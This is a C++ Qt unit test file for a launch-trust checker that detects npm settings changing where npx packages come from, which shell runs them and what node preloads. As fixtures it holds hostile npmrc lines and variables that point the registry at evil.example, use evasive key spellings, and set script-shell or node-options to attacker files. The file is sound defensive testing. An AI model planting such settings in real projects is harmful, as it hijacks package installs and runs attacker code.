// SPDX-License-Identifier: Apache-2.0
#include "core/base/hash.h"
#include "tests/unit/trust/table_probe.h"

#include <QtTest>

using namespace gatehouse;
using model::FileRole;

/// What settings of npm change: where packages come from, which shell starts them, what node loads first.
class TestNpmSettings : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void anotherRegistryIsSaid_data();
    void anotherRegistryIsSaid();
    void npmsOwnRegistryIsNot_data();
    void npmsOwnRegistryIsNot();
    void whatRunsThePackageCounts_data();
    void whatRunsThePackageCounts();
    void aSettingThatNamesThePackageHidesIt_data();
    void aSettingThatNamesThePackageHidesIt();
    void everySpellingCounts_data();
    void everySpellingCounts();
    void theGlobalFileCounts();
    void variablesInAnySpellingCount();
};

namespace {

const std::string kCached =
    "/h/.npm/_npx/" + base::sha512Hex("@x/memory").substr(0, 16) + "/node_modules/@x/memory";

tests::TableProbe settingsDisk()
{
    tests::TableProbe probe;
    probe.files = {{"/usr/bin/npx", "ELF npx"},
        {kCached + "/package.json", R"({"name":"@x/memory","version":"1.0.0"})"}, {"/w/package.json", "{}"},
        {"/w/evil.sh", "ELF sh"}, {"/w/hook.js", "data"}};
    return probe;
}

model::LaunchIdentity ofNpx(const tests::TableProbe& probe,
    const QString& command = QStringLiteral("npx -y @x/memory"),
    const std::vector<std::pair<std::string, std::string>>& variables = {})
{
    trust::LaunchRequest request;
    for (const auto& word : command.split(QLatin1Char(' ')))
        request.argv.push_back(word.toStdString());
    request.environment = {{"PATH", "/usr/bin"}, {"HOME", "/h"}};
    request.environment.insert(request.environment.end(), variables.begin(), variables.end());
    request.workingFolder = "/w";
    return trust::resolveLaunch(request, probe).value();
}

bool counts(const model::LaunchIdentity& identity, FileRole role, const std::string& path)
{
    return std::any_of(identity.files.begin(), identity.files.end(),
        [&](const auto& one) { return one.role == role && one.file.path == path; });
}

} // namespace

void TestNpmSettings::anotherRegistryIsSaid_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("command");
    QTest::addColumn<QString>("code");
    const auto npx = QStringLiteral("npx -y @x/memory");
    const auto project = QStringLiteral("registry-of-project");
    const auto user = QStringLiteral("registry-of-user");
    const auto row = [&](const char* name, const char* file, const char* line, const QString& code) {
        QTest::newRow(name) << QString::fromLatin1(file) << QString::fromLatin1(line) << npx << code;
    };
    row("the project's", "/w/.npmrc", "registry=https://evil.example/", project);
    row("of a scope", "/w/.npmrc", "@x:registry = https://evil.example", project);
    row("in quotes", "/w/.npmrc", "\"registry\" = \"https://evil.example/\"", project);
    row("in quotes with an escape", "/w/.npmrc", "\"\\u0072egistry\" = https://evil.example/", project);
    row("with a variable in the key", "/w/.npmrc", "${X}registry=https://evil.example/", project);
    row("behind a carriage return", "/w/.npmrc", "fund=false\rregistry=https://evil.example/", project);
    row("a name that begins alike", "/w/.npmrc", "registry=https://registry.npmjs.org.evil.example/",
        project);
    row("without TLS", "/w/.npmrc", "registry=http://registry.npmjs.org/", project);
    row("the user's", "/h/.npmrc", "registry=https://mine.example/", user);
    row("everybody's", "/usr/etc/npmrc", "registry=https://mine.example/", user);
    QTest::newRow("an option") << QString() << QString()
                               << QStringLiteral("npx --registry https://evil.example -y @x/memory") << user;
    QTest::newRow("a scope's option")
        << QString() << QString() << QStringLiteral("npx --@x:registry=https://evil.example -y @x/memory")
        << user;
}

void TestNpmSettings::anotherRegistryIsSaid()
{
    QFETCH(QString, file);
    QFETCH(QString, line);
    QFETCH(QString, command);
    QFETCH(QString, code);
    auto probe = settingsDisk();
    if (!file.isEmpty())
        probe.files[file.toStdString()] = line.toStdString() + "\n";

    const auto identity = ofNpx(probe, command);

    QVERIFY(identity.isUnknown(code.toStdString()));
    QCOMPARE(counts(identity, FileRole::Settings, file.toStdString()), !file.isEmpty());
}

void TestNpmSettings::npmsOwnRegistryIsNot_data()
{
    QTest::addColumn<QString>("line");
    for (const auto* const line :
        {"registry=https://registry.npmjs.org/", "registry = https://registry.npmjs.org",
            "registry=\"https://registry.npmjs.org/\"", "; registry=https://evil.example",
            "# registry=https://evil.example", "//evil.example/:_authToken=x", "fund=false"})
        QTest::newRow(line) << QString::fromLatin1(line);
}

void TestNpmSettings::npmsOwnRegistryIsNot()
{
    QFETCH(QString, line);
    auto probe = settingsDisk();
    probe.files["/w/.npmrc"] = line.toStdString() + "\n";

    QVERIFY(ofNpx(probe).unknown.empty());
}

void TestNpmSettings::whatRunsThePackageCounts_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<int>("role");
    QTest::addColumn<QString>("file");
    const auto program = static_cast<int>(FileRole::Program);
    const auto loaded = static_cast<int>(FileRole::Loaded);
    QTest::newRow("script-shell") << QStringLiteral("script-shell=/w/evil.sh") << program
                                  << QStringLiteral("/w/evil.sh");
    QTest::newRow("script-shell in its folder")
        << QStringLiteral("script-shell=./evil.sh") << program << QStringLiteral("/w/./evil.sh");
    QTest::newRow("node-options") << QStringLiteral("node-options=--require /w/hook.js") << loaded
                                  << QStringLiteral("/w/hook.js");
    QTest::newRow("node-options with a variable")
        << QStringLiteral("node-options=--require ${HOME}/../w/hook.js") << loaded
        << QStringLiteral("/w/hook.js");
}

void TestNpmSettings::whatRunsThePackageCounts()
{
    QFETCH(QString, line);
    QFETCH(int, role);
    QFETCH(QString, file);
    auto probe = settingsDisk();
    probe.files["/w/.npmrc"] = line.toStdString() + "\n";
    const auto before = ofNpx(probe);
    const auto real = probe.realPath(file.toStdString()).value();
    QVERIFY(counts(before, static_cast<FileRole>(role), real));
    probe.files[real] = "exchanged";

    QVERIFY(trust::identityDigest(before) != trust::identityDigest(ofNpx(probe)));
}

void TestNpmSettings::aSettingThatNamesThePackageHidesIt_data()
{
    QTest::addColumn<QString>("line");
    for (const auto* const line : {"package=evil", "package[]=evil", "call=evil"})
        QTest::newRow(line) << QString::fromLatin1(line);
}

void TestNpmSettings::aSettingThatNamesThePackageHidesIt()
{
    QFETCH(QString, line);
    auto probe = settingsDisk();
    probe.files["/w/.npmrc"] = line.toStdString() + "\n";

    QVERIFY(ofNpx(probe).isUnknown(model::unknowns::kPackageHidden));
    QVERIFY(!ofNpx(settingsDisk(), QStringLiteral("npx --package=@x/memory memory"))
                 .isUnknown(model::unknowns::kPackageHidden));
}

void TestNpmSettings::everySpellingCounts_data()
{
    QTest::addColumn<QString>("line");
    for (const auto* const line : {"script-shell=x", "\"script-shell\"=x", "tag=evil", "ignore-scripts",
             "before=2020-01-01", "some-setting-of-tomorrow=x", "omit[]=dev"})
        QTest::newRow(line) << QString::fromLatin1(line);
}

void TestNpmSettings::everySpellingCounts()
{
    QFETCH(QString, line);
    auto probe = settingsDisk();
    probe.files["/w/.npmrc"] = line.toStdString() + "\n";

    QVERIFY(counts(ofNpx(probe), FileRole::Settings, "/w/.npmrc"));
}

void TestNpmSettings::theGlobalFileCounts()
{
    auto probe = settingsDisk();
    probe.files["/etc/npm"] = "cache=/c\n";
    const auto cached =
        std::string("/c/_npx/") + base::sha512Hex("@x/memory").substr(0, 16) + "/node_modules/@x/memory";
    probe.files[cached + "/package.json"] = R"({"name":"@x/memory","version":"9.0.0"})";

    QCOMPARE(ofNpx(probe, QStringLiteral("npx --globalconfig /etc/npm -y @x/memory")).package->found,
        std::string("9.0.0"));
}

void TestNpmSettings::variablesInAnySpellingCount()
{
    for (const auto* const name :
        {"npm_config_registry", "NPM_CONFIG_REGISTRY", "npm_config_@x:registry", "Npm_Config_Registry"}) {
        const auto identity =
            ofNpx(settingsDisk(), QStringLiteral("npx -y @x/memory"), {{name, "https://evil.example"}});
        QVERIFY2(identity.isUnknown(model::unknowns::kRegistryOfUser), name);
        QVERIFY2(!(identity.environment == ofNpx(settingsDisk()).environment), name);
    }
    for (const auto* const name :
        {"npm_config_script_shell", "npm_config_script-shell", "NPM_CONFIG_SCRIPT_SHELL"}) {
        const auto identity =
            ofNpx(settingsDisk(), QStringLiteral("npx -y @x/memory"), {{name, "/w/evil.sh"}});
        QVERIFY2(counts(identity, FileRole::Program, "/w/evil.sh"), name);
        QVERIFY2(!(identity.environment == ofNpx(settingsDisk()).environment), name);
    }
}

QTEST_APPLESS_MAIN(TestNpmSettings)
#include "tst_npm_settings.moc"
